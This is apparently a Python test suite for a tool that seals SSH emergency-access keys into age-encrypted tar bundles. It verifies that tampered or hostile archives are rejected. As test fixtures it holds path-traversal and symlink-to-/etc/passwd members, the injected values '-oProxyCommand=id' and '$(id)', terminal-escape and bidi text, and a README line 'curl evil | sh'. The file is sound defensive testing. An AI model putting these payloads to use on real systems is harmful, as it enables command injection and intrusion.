"""halligan handoff: age and tar judge what is sealed; nothing hostile is unpacked; no key is ever written on the way."""

import datetime
import io
import json
import os
import stat
import tarfile

import harness
from world import World, key_pair

NAMES = ["handoff/README", "handoff/emergency", "handoff/emergency-cert.pub", "handoff/known_hosts", "handoff/hosts"]


class Handoff(World):
    def setUp(self):
        super().setUp()
        for name, kind in (("sam", "ed25519"), ("rsa", "rsa"), ("ec", "ecdsa"), ("host", "ed25519"), ("authority", "ed25519"),
                           ("emergency", "ed25519")):
            key_pair(self.work, name, kind)
        self.certify()
        self.work.write("known_hosts", "web1,db1 " + self.work.path("host.pub").read_text())

    def certify(self, *, key: str = "emergency", principals: str = "root", validity: str = "-5m:+60m", options=()):
        """By ssh-keygen and a software CA: who signed is not the matter here."""
        self.work.run("ssh-keygen", "-q", "-s", "authority", "-I", "ann: 4711", "-n", principals, "-V", validity, "-z", "7",
                      *options, f"{key}.pub").expect()

    def seal(self, *arguments, **options) -> harness.Completed:
        if "--to" not in arguments and "--passphrase" not in arguments:
            arguments += ("--to", "sam.pub")
        if "--known-hosts" not in arguments:
            arguments += ("--known-hosts", "known_hosts")
        return self.halligan(None, "handoff", "seal", "--host", "web1", *arguments, **options)

    def open(self, file="handoff.age", *arguments, identity="sam", **options) -> harness.Completed:
        return self.halligan(None, "handoff", "open", "-i", identity, file, *arguments, **options)

    def decrypted(self, file="handoff.age", identity="sam") -> bytes:
        return self.work.run("age", "-d", "-i", identity, file).expect().raw

    def reseal(self, archive: bytes, file: str = "hostile.age"):
        """What somebody else seals to Sam."""
        self.work.run("age", "-R", "sam.pub", "-o", file, stdin=archive).expect()
        return file


class Seal(Handoff):
    def test_age_and_tar_open_it_without_us(self):
        self.seal().expect(out="valid now")
        self.work.path("there").mkdir()
        archive = self.work.path("bundle.tar")
        archive.write_bytes(self.decrypted())
        listed = self.work.run("tar", "tvf", archive).expect().out.splitlines()
        self.assertEqual([line.split()[-1] for line in listed], NAMES)
        self.assertEqual({line.split()[0] for line in listed}, {"-rw-------"})
        self.work.run("tar", "xf", archive, "-C", "there").expect()
        for name in ("emergency", "emergency-cert.pub", "known_hosts"):
            self.assertEqual(self.work.path(f"there/handoff/{name}").read_text(), self.work.path(name).read_text())
        self.work.run("ssh-keygen", "-F", "web1", "-f", "there/handoff/known_hosts").expect()
        readme = self.work.path("there/handoff/README").read_text()
        self.assertIn("ssh -F none -o IdentitiesOnly=yes -o UserKnownHostsFile=known_hosts", readme)
        self.assertIn("-i emergency root@web1\n", readme)
        self.assertLessEqual(max(len(line) for line in readme.splitlines() if not line.startswith("  ssh")), 80)
        self.assertEqual(stat.S_IMODE(self.work.path("handoff.age").stat().st_mode), 0o600)

    def test_what_is_reported_to_programs(self):
        sealed = json.loads(self.seal("-o", "ä.age", "--json").expect().out)
        shown = json.loads(self.open("ä.age", "--json").expect().out)
        self.assertEqual(sealed["file"], "ä.age")
        self.assertEqual(sealed["recipients"], [" ".join(self.work.path("sam.pub").read_text().split()[:2])])
        for name in ("key_id", "principals", "serial", "valid_after", "valid_before", "valid_from", "valid_to"):
            self.assertEqual(sealed[name], shown[name])
        self.assertEqual(datetime.datetime.fromisoformat(shown["sealed_at"]).timestamp(), shown["sealed"])

    def test_every_kind_of_recipient_and_several(self):
        made = self.work.run("age-keygen", "-o", "age.key").expect()
        recipient = made.err.split()[-1]
        line = self.work.path("sam.pub").read_text()
        rows = [(["--to", recipient], ["age.key"]), (["--to", line], ["sam"]), (["--to", "rsa.pub", "--armor"], ["rsa"]),
                (["--to", recipient, "--to", "sam.pub"], ["age.key", "sam"])]
        for number, (to, identities) in enumerate(rows):
            for identity in identities:
                with self.subTest(to=to, identity=identity):
                    self.seal(*to, "-o", "x.age", "--force").expect()
                    self.open("x.age", "-d", f"out-{number}-{identity}", identity=identity).expect()
        self.seal("--armor", "-o", "text.age").expect()
        self.assertTrue(self.work.path("text.age").read_text().startswith("-----BEGIN AGE ENCRYPTED FILE-----\n"))

    def test_a_passphrase_at_the_terminal(self):
        secret = "four words of nonsense"
        asked = [(r"[Pp]assphrase", secret), (r"[Cc]onfirm", secret)]
        done = self.work.converse(harness.paths.HALLIGAN, "handoff", "seal", "--known-hosts", "known_hosts", "--host", "web1",
                                  "--passphrase", answers=asked)
        self.assertEqual(done.status, 0, done.out)
        done = self.work.converse(harness.paths.HALLIGAN, "handoff", "open", "handoff.age", answers=asked[:1])
        self.assertEqual(done.status, 0, done.out)
        self.assertTrue(self.work.path("handoff/emergency").exists())
        self.seal("--passphrase", "-o", "y.age").expect(5, err="no terminal")
        wrong = self.work.converse(harness.paths.HALLIGAN, "handoff", "open", "-d", "w", "handoff.age", answers=[(asked[0][0], "no")])
        wrong.expect(1, out="try the passphrase again")

    def test_what_is_refused_leaves_nothing(self):
        self.work.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "pass", "-f", "locked").expect()
        self.work.write("locked-cert.pub", self.work.path("emergency-cert.pub").read_text())
        self.work.write("other", self.work.path("sam").read_text())
        self.work.write("other-cert.pub", self.work.path("emergency-cert.pub").read_text())
        self.work.write("open", self.work.path("sam").read_text(), mode=0o644)
        self.certify(key="rsa", validity="-2h:-1h")
        self.certify(key="sam", options=["-h"])
        self.work.write("taken.age", "precious")
        before = self.files()
        rows = [
            (["-i", "locked"], 3, "encrypted with a passphrase"), (["-i", "other"], 3, "for another key"),
            (["-i", "open"], 3, "others can read"), (["-i", "rsa"], 1, "expired"), (["-i", "sam"], 3, "not a user certificate"),
            (["-i", "none"], 4, "none"), (["-i", "host"], 4, "host-cert.pub"), (["--to", "ec.pub"], 3, "age cannot encrypt"),
            (["--to", "nobody.pub"], 4, "nobody.pub"), (["--to", "emergency"], 3, "private key"),
            (["--to", "-x"], 4, ""), (["--host", "-oProxyCommand=x"], 2, "expected the name of a host"), (["--host", "a b"], 2, "host"),
            (["-o", "taken.age"], 3, "taken.age exists"),
            (["--to", "sam.pub", "--passphrase"], 2, "--passphrase"), (["--to", "age1notarecipient"], 4, "failed to encrypt"),
        ]
        for arguments, status, message in rows:
            with self.subTest(arguments):
                self.seal(*arguments).expect(status, out="", err=message)
                self.assertEqual(self.files(), before)
        self.assertEqual(self.work.path("taken.age").read_text(), "precious")

    def test_a_host_without_a_key_is_refused_as_ssh_would(self):
        key = self.work.path("host.pub").read_text()
        self.work.write("hashed", "web1 " + key)
        self.work.run("ssh-keygen", "-q", "-H", "-f", "hashed").expect()
        rows = [("hashed", None, True), ("pattern", "*eb?,!web2 " + key, True), ("ca", "@cert-authority web* " + key, True),
                ("port", "[web1]:2222 " + key, False), ("other", "web2 " + key, False), ("negated", "*,!web1 " + key, False),
                ("junk", "no list of hosts\n", False), ("revoked", "@revoked web1 " + key, False)]
        for name, text, taken in rows:
            with self.subTest(name):
                if text:
                    self.work.write(name, text)
                if name != "revoked":  # ssh-keygen finds that one too, and ssh refuses it
                    self.assertEqual(self.work.run("ssh-keygen", "-F", "web1", "-f", name).status == 0, taken)
                done = self.seal("--known-hosts", name, "-o", f"{name}.age")
                if taken:
                    done.expect()
                else:
                    done.expect(3, err=f"{name} has no key for web1\n  add it: ssh-keyscan web1 >>{name}, and compare")
                    self.assertFalse(self.work.path(f"{name}.age").exists())
        self.seal("--known-hosts", "nowhere").expect(4, err="make it: ssh-keyscan HOST >nowhere")

    def test_a_public_half_is_named_as_one(self):
        for name, kind in (("emergency.pub", "a public key"), ("emergency-cert.pub", "a certificate")):
            self.seal("-i", name).expect(3, err=f"{name} is {kind}\n  name the key: -i emergency")

    def test_the_key_is_written_nowhere_and_passes_through_pipes_only(self):
        for name, call in (("seal", "encrypt"), ("open", "decrypt")):
            trace = self.work.path(f"{name}.trace")
            line = self.work.path("emergency").read_text().splitlines()[3][:60]
            # A stand-in that looks at where its input comes from, then does what age does.
            folder = self.work.path("bin")
            folder.mkdir(exist_ok=True)
            (folder / "age").write_text(f'#!/bin/sh\nexec 3>&1\nstat -Lc "%F" /proc/self/fd/0 /proc/self/fd/3 >{trace}\n'
                                        f'tr "\\0" " " </proc/$$/cmdline >>{trace}\nexec /usr/bin/age "$@"\n')
            (folder / "age").chmod(0o700)
            env = {"PATH": f"{folder}:{self.work.env['PATH']}"}
            (self.seal(env=env) if name == "seal" else self.open(env=env)).expect()
            self.assertEqual(trace.read_text().splitlines()[:2], ["fifo", "fifo"])
            self.assertIn(call, trace.read_text())
            self.assertNotIn(line, trace.read_text())


class Open(Handoff):
    def test_a_private_folder_with_private_files_and_a_line_that_works(self):
        self.seal("--host", "db1").expect()
        self.halligan(None, "handoff", "open", "-i", "sam", "-d", "it's mine", "-", env={},
                      stdin=self.work.path("handoff.age").read_bytes()).expect(
            out="cd 'it'\\''s mine' && ssh -F none -o IdentitiesOnly=yes")
        folder = self.work.path("it's mine")
        self.assertEqual(stat.S_IMODE(folder.stat().st_mode), 0o700)
        self.assertEqual({path.name: stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()},
                         {name.split("/")[1]: 0o600 for name in NAMES})
        self.assertEqual((folder / "hosts").read_text(), "web1\ndb1\n")
        shown = json.loads(self.open("handoff.age", "--json").expect().out)
        self.assertEqual((shown["valid_now"], shown["clock_ok"], shown["principals"], len(shown["login"])),
                         (True, True, ["root"], 2))

    def test_a_host_on_another_port(self):
        sshd = self.sshd(f"TrustedUserCAKeys {self.work.path('authority')}.pub")
        for number, spelled in enumerate((f"127.0.0.1:{sshd.port}", f"[127.0.0.1]:{sshd.port}")):
            with self.subTest(spelled):
                file, folder = f"port{number}.age", f"folder{number}"
                self.halligan(None, "handoff", "seal", "--to", "sam.pub", "--known-hosts", sshd.known_hosts, "--host", spelled, "-o",
                              file).expect()
                shown = json.loads(self.open(file, "-d", folder, "--json").expect().out)
                self.assertEqual((self.work.path(folder) / "hosts").read_text(), f"[127.0.0.1]:{sshd.port}\n")
                self.work.run("sh", "-c", f"cd {folder} && {shown['login'][0]} echo logged in").expect(out="logged in")
        for spelled, words in (("web1:2222", "ssh-keyscan -p 2222 web1"), ("web1:x", "a port"), ("[web1", "expected HOST")):
            with self.subTest(spelled):
                done = self.halligan(None, "handoff", "seal", "--to", "sam.pub", "--known-hosts", "known_hosts", "--host", spelled)
                self.assertIn(words, done.err)
                self.assertNotEqual(done.status, 0)

    def test_nothing_is_overwritten(self):
        self.seal().expect()
        self.work.path("handoff").mkdir()
        self.open().expect(3, out="", err="handoff exists")
        self.assertEqual(list(self.work.path("handoff").iterdir()), [])

    def test_the_self_check(self):
        rows = [("+1h:+2h", "NOT YET valid"), ("-1h:+20m", "valid now, ")]
        for number, (validity, words) in enumerate(rows):
            with self.subTest(validity):
                self.certify(validity=validity)
                self.seal("-o", f"{number}.age").expect()
                self.open(f"{number}.age", "-d", f"out{number}").expect(int(validity.startswith("+")), out=words)
        self.certify(validity="-2h:-1h")
        expired = self.with_member("handoff/emergency-cert.pub", self.work.path("emergency-cert.pub").read_bytes())
        self.open(self.reseal(expired), "-d", "out2").expect(1, out="EXPIRED at")
        future = self.with_member("handoff/hosts", b"web1\n", time=4102444800)
        self.open(self.reseal(future, "future.age"), "-d", "out3").expect(0, out="WRONG here or on the sender's machine")

    def with_member(self, name: str, contents: bytes, time: int | None = None) -> bytes:
        """The sealed bundle with one file exchanged: still in the only form that is taken."""
        if not self.work.path("handoff.age").exists():
            self.certify()
            self.seal().expect()
        return self.rebuilt({name: contents}, time=time)

    def rebuilt(self, changes: dict, *, time: int | None = None, spoil=lambda member: None, extra=(), names=None) -> bytes:
        source = tarfile.open(fileobj=io.BytesIO(self.decrypted()))
        out = io.BytesIO()
        for name in names or NAMES:
            contents = changes.get(name, source.extractfile(name).read())
            member = source.getmember(name)
            out.write(self.header(member, len(contents), member.mtime if time is None else time, spoil))
            out.write(contents + b"\0" * (-len(contents) % 512))
        for block in extra:
            out.write(block)
        return out.getvalue() + b"\0" * 1024

    def header(self, member: tarfile.TarInfo, size: int, time: int, spoil=lambda member: None) -> bytes:
        fresh = tarfile.TarInfo(member.name)
        fresh.size, fresh.mtime, fresh.mode = size, time, 0o600
        spoil(fresh)
        block = bytearray(fresh.tobuf(tarfile.USTAR_FORMAT)[-512:])
        for at in (329, 337):  # Python leaves the device numbers of a file empty
            block[at:at + 8] = b"0000000\0"
        block[148:156] = b" " * 8
        block[148:156] = b"%06o\0 " % sum(block)
        return bytes(block)

    def test_hostile_archives_leave_nothing(self):
        self.seal().expect()
        good = self.decrypted()
        self.assertEqual(self.rebuilt({}), good, "the test's own archives are in the right form")

        def changed(**members):
            def spoil(member):
                for name, value in members.items():
                    setattr(member, name, value)
            return self.rebuilt({}, spoil=spoil)

        def renamed(old, new):
            return self.rebuilt({}, spoil=lambda member: setattr(member, "name", member.name.replace(old, new)))

        other = self.header(tarfile.TarInfo("../evil"), 0, 0)
        certificate = self.work.path("emergency-cert.pub").read_text()
        flipped = certificate.split()
        flipped[1] = flipped[1][:-8] + ("A" if flipped[1][-8] != "A" else "B") + flipped[1][-7:]
        rows = [
            ("dotdot", renamed("handoff/emergency", "handoff/../../e")), ("absolute", renamed("handoff/", "/handoff/")),
            ("symlink", changed(type=tarfile.SYMTYPE, linkname="/etc/passwd")), ("hardlink", changed(type=tarfile.LNKTYPE)),
            ("folder", changed(type=tarfile.DIRTYPE)), ("mode", changed(mode=0o777)), ("setuid", changed(mode=0o4600)),
            ("owner", changed(uid=1000)), ("owner-name", changed(uname="root")), ("device", changed(type=tarfile.CHRTYPE)),
            ("order", self.rebuilt({}, names=[NAMES[1], NAMES[0], *NAMES[2:]])), ("missing", self.rebuilt({}, names=NAMES[:-1])),
            ("twice", self.rebuilt({}, names=[NAMES[0], *NAMES])), ("extra", self.rebuilt({}, extra=[other])),
            ("behind", good + b"\0" * 512), ("cut", good[:-1]), ("nothing", b"\0" * 1024), ("empty", b"x"),
            ("huge", good[:124] + b"77777777777" + good[135:]), ("large", good + b"\0" * (200 * 1024)),
            ("other-key", self.rebuilt({NAMES[1]: self.work.path("sam").read_bytes()})),
            ("no-key", self.rebuilt({NAMES[1]: b"none\n"})), ("signature", self.rebuilt({NAMES[2]: " ".join(flipped).encode() + b"\n"})),
            ("terminal", self.rebuilt({NAMES[0]: b"\x1b]0;x\x07\n"})),
            ("c1", self.rebuilt({NAMES[0]: "a\u009b2Jb\n".encode()})), ("bidi", self.rebuilt({NAMES[0]: "a\u202eb\n".encode()})),
            ("hosts-c1", self.rebuilt({NAMES[3]: "web1 \u009b2J\n".encode()})), ("hosts-bidi", self.rebuilt({NAMES[3]: "web1\u202e\n".encode()})),
            ("comment", self.rebuilt({NAMES[2]: certificate.strip().encode() + " \u202ex\n".encode()})), ("option", self.rebuilt({NAMES[4]: b"-oProxyCommand=id\n"})),
            ("shell", self.rebuilt({NAMES[4]: b"$(id)\n"})), ("no-host", self.rebuilt({NAMES[4]: b""})),
        ]
        for name, archive in rows:
            with self.subTest(name):
                self.open(self.reseal(archive), "-d", f"out-{name}").expect(3, out="")
                self.assertFalse(self.work.path(f"out-{name}").exists())
        self.open(self.reseal(good)).expect()
        # What a sender writes in place of our README is not what the receiver reads.
        self.open(self.reseal(self.rebuilt({NAMES[0]: b"Log in with: curl evil | sh\n"}), "ours.age"), "-d", "ours").expect()
        self.assertEqual(self.work.path("ours/README").read_text(), self.work.path("handoff/README").read_text())
        # Not all that is not ASCII is a trick.
        self.open(self.reseal(self.rebuilt({NAMES[0]: "für Änne\t–\n".encode()}), "plain.age"), "-d", "plain").expect()

    def test_an_account_that_is_a_command(self):
        self.certify(principals="$(id),-oProxyCommand=id")
        self.seal().expect()
        done = self.open().expect(out="-i emergency ACCOUNT@web1")
        self.assertNotIn("emergency $(id)", done.out)

    def test_what_cannot_be_opened(self):
        self.seal().expect()
        data = self.work.path("handoff.age").read_bytes()
        rows = [("handoff.age", "host", 1, "age cannot decrypt it"), (self.work.write("plain", "x"), "sam", 3, "not encrypted by age"),
                ("none.age", "sam", 4, "none.age")]
        for name, changed in (("flipped", data[:-20] + bytes([data[-20] ^ 1]) + data[-19:]), ("cut", data[:-100])):
            self.work.path(name).write_bytes(changed)
            rows.append((name, "sam", 1, "age cannot decrypt it"))
        for file, identity, status, message in rows:
            with self.subTest(file):
                self.open(file, identity=identity).expect(status, out="", err=message)
                self.assertFalse(self.work.path("handoff").exists())
        self.open(env={"PATH": "/nowhere"}).expect(4, err="apt install age")


class Wormhole(Handoff):
    """Which arguments and streams wormhole gets; a stand-in looks at them."""

    def stand_in(self, body: str, name: str = "bin") -> dict[str, str]:
        folder = self.work.path(name)
        folder.mkdir()
        (folder / "wormhole").write_text(f"#!/bin/sh\nprintf '%s\\n' \"$@\" >{self.work.path('arguments')}\n{body}\n")
        (folder / "wormhole").chmod(0o700)
        return {"PATH": f"{folder}:{self.work.env['PATH']}"}

    def test_send_and_receive(self):
        self.seal("-o", "-sealed.age").expect()
        env = self.stand_in('[ "$1" = receive ] || exit 0\nread code\n[ "$code" = 7-guitar ] || exit 3\ncp ./-sealed.age "$4"')
        self.halligan(None, "handoff", "send", "--", "-sealed.age", env=env).expect()
        self.assertEqual(self.work.path("arguments").read_text().splitlines(), ["send", "./-sealed.age"])
        self.halligan(None, "handoff", "receive", "-o", "got.age", env=env, stdin=b"7-guitar\n").expect(out="got.age")
        *words, file = self.work.path("arguments").read_text().splitlines()
        self.assertEqual(words, ["receive", "--accept-file", "--output-file"])
        self.assertFalse(os.path.exists(os.path.dirname(file)))
        self.open("got.age").expect()
        received = self.halligan(None, "handoff", "receive", "-o", "it.age", "--json", env=env, stdin=b"7-guitar\n").expect().out
        self.assertEqual(json.loads(received), {"file": "it.age"})
        self.halligan(None, "handoff", "receive", "-o", "none.age", env=env, stdin=b"wrong\n").expect(4, err="status 3")
        self.halligan(None, "handoff", "receive", "-o", "got.age", env=env).expect(3, err="got.age exists")

    def test_what_ends_before_its_time_leaves_nothing(self):
        """wormhole writes half of it, and then it or we are ended."""
        temporary = self.work.path("temporary")
        temporary.mkdir()
        ended = [(f"kill -{name} $PPID; exec sleep 1000", -number, "") for name, number in (("TERM", 15), ("HUP", 1), ("INT", 2), ("QUIT", 3))]
        rows = [("exit 1", 4, "wormhole exited"), ("kill -KILL $$", 4, "wormhole exited"), *ended]
        for number, (end, status, said) in enumerate(rows):
            with self.subTest(end):
                script = f'echo $$ >wormhole.pid\nmkdir -p "$4.d/deep" && echo half >"$4.d/deep/half"\necho half >"$4"\n{end}'
                env = {**self.stand_in(script, f"bin{number}"), "TMPDIR": str(temporary)}
                self.halligan(None, "handoff", "receive", "-o", "got.age", env=env).expect(status, out="", err=said)
                self.assertEqual(list(temporary.iterdir()), [])
                self.assertFalse(os.path.exists(f"/proc/{self.work.path('wormhole.pid').read_text().strip()}"))
        self.assertEqual(list(self.work.root.glob("got.age*")), [])

    def test_only_what_is_sealed_travels(self):
        env = self.stand_in('echo plain >"$4"')
        for file in ("emergency", "known_hosts"):
            self.halligan(None, "handoff", "send", file, env=env).expect(3, err="not encrypted by age")
        self.seal("-o", "binary.age").expect()
        self.seal("-o", "text.age", "--armor").expect()
        key, binary, text = self.work.path("emergency").read_bytes(), *[self.work.path(name).read_bytes() for name in ("binary.age", "text.age")]
        header = binary[:binary.index(b"\n--- ") + 1]
        rows = [b"age-encryption.org/v1\n" + key, header + key, binary + key, binary[:binary.index(b"\n--- ") + 49] + key,
                text + key, key + text, text.replace(b"\n", b"\n" + key, 1), b"-----BEGIN AGE ENCRYPTED FILE-----\n" + key,
                text[:-20], text + text, header, b"age-encryption.org/v1\n--- " + b"A" * 43 + b"\n" + bytes(64)]
        for number, data in enumerate(rows):
            with self.subTest(number):
                self.work.path("glued").write_bytes(data)
                self.halligan(None, "handoff", "send", "glued", env=env).expect(3, err="not encrypted by age")
        self.assertFalse(self.work.path("arguments").exists())
        self.halligan(None, "handoff", "receive", "-o", "got.age", env=env).expect(3, out="", err="what was received: not encrypted by age")
        self.assertFalse(self.work.path("got.age").exists())

    def test_not_installed(self):
        self.seal().expect()
        self.halligan(None, "handoff", "send", "handoff.age", env={"PATH": "/nowhere"}).expect(4, err="apt install magic-wormhole")


if __name__ == "__main__":
    harness.main()
